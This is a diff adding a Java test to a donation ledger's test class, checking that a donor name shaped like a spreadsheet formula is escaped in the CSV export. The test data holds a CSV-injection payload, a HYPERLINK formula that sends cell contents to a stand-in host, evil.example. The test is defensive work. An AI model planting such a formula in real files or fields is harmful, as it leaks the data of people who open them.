@@ -78,6 +78,20 @@ class LedgerAndPledgesTests {
     }
 
     @Test
+    void aDonorNamedLikeAFormulaIsWrittenAsTextInTheCsv() {
+        var donation = gifts.start(500, "ledger-formula@example.org");
+        jdbc.sql("update donation set anonymous = false, donor_name = ? where id = ?")
+                .params("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", donation.id()).update();
+        String payload = StripeFixtures.event("checkout.session.completed", GiftFixture.session(donation, "pi_3LedgerFx", "paid"));
+        webhooks.receive(payload, StripeFixtures.signNow(payload));
+
+        StringWriter csv = new StringWriter();
+        ledger.writeCsv(csv);
+        assertThat(csv.toString()).contains(",DONATION,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",500.00,")
+                .doesNotContain(",DONATION,=HYPERLINK").doesNotContain(",\"=HYPERLINK");
+    }
+
+    @Test
     void aReceiptThatIsNotAPdfOrAPhotoOrTooLargeIsRefusedAndNothingIsStored() {
         long before = expenses();
         var html = new Ledger.NewExpense(LocalDate.now(), ExpenseCategory.OTHER, "100", "note", "receipt.pdf",
